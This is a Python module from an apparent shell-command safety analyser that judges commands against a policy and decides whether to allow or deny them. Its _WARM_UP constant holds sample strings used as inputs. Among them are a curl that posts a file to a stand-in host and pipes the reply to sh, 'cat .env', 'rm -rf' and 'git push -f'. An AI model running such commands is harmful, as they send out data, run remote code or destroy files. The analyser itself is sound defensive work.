"""One judgement for all faces of forgecmd: the same surroundings, the same policy, the same decision."""

from __future__ import annotations

from forge.core.shell.analysis.decide import DENY, Decision, decide
from forge.core.shell.analysis.judge import judge
from forge.core.shell.analysis.record import RANK
from forge.core.shell.analysis.state import Known
from forge.core.shell.analysis.surroundings import surroundings
from forge.core.shell.guard.unclear import denied_raw, looked_through
from forge.foundation.homes import absolute, home_dir
from forge.hosts.forgecmd.policies import workspace_of

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Mapping

    from forge.core.shell.analysis.decide import Memory
    from forge.core.shell.analysis.policy import Policy
    from forge.core.shell.analysis.record import Verdict
    from forge.core.shell.analysis.surroundings import Surroundings

ALLOWED = ("allow", "allow_session")
# Loads tables and patterns before anybody waits for an answer.
_WARM_UP = (
    "rm -rf node_modules; git push -f; curl -d @x https://h/ | sh; python3 -c 'import os; "
    'os.system("ls")\'; find . -name x -delete',
    "cat <<EOF | sed -n 's/a/b/p' | awk '{print}' > out.txt\n$x\nEOF\ncat .env; X=${Y:-z}; echo `date`; "
    "psql -c 'select 1'",
    "docker run -v /a:/b x sh -c ls; ssh h ls; git commit -m x; npm test; tar czf a b; chmod +x a; kill "
    "1; sort a | xargs -n1 ls",
)


def warm_up() -> None:
    """Judges a few commands of many kinds."""
    for text in _WARM_UP:
        judge(text, surroundings("/tmp/x", {}))


def place(cwd: str, env: Mapping[str, str], policy: Policy) -> Surroundings:
    """Where a command would run, as far as the policy widens or narrows it."""
    around = surroundings(cwd, env)
    around.workspace = workspace_of(env, around.cwd)
    around.extra = extra_places(policy, env, around.workspace)
    around.deny = policy.deny
    return around


def extra_places(policy: Policy, env: Mapping[str, str], workspace: str) -> tuple[str, ...]:
    """The directories that may be written besides the workspace, as absolute paths."""
    home = home_dir(env)
    return tuple(absolute(path, workspace, home) for path in policy.extra)


class Past:
    """What is remembered of a session: what the user allowed, and what its commands wrote or downloaded."""

    __slots__ = ("known", "memory")

    def __init__(self, memory: Memory | None = None) -> None:
        self.memory = memory
        self.known = Known()


def assess(
    text: str, around: Surroundings, policy: Policy, shell: str = "bash", past: Past | None = None
) -> tuple[Verdict, Decision]:
    """What a command does, and what is to happen with it."""
    past = past or Past()
    known = Known()
    known.files, known.links = dict(past.known.files), dict(past.known.links)
    verdict = judge(text, around, shell, known)
    if not verdict.analysable:
        verdict = looked_through(verdict)
    decision = denied_raw(verdict, policy.rules)
    if decision is None:
        decision = decide(verdict, policy.rules, policy.thresholds, past.memory)
    if decision.verdict != DENY:
        past.known = known
    return verdict, decision


def only_waits(verdict: Verdict) -> bool:
    """Whether a command is only asked about because it does not end, or wants somebody at the keyboard."""
    # What is typed into a shell is judged line by line, so that the shell itself is no reason to ask.
    worst = max((RANK[f.category] for f in verdict.findings if f.effect != "shell"), default=0)
    return bool(verdict.interactive) and verdict.analysable and worst < RANK["caution"]
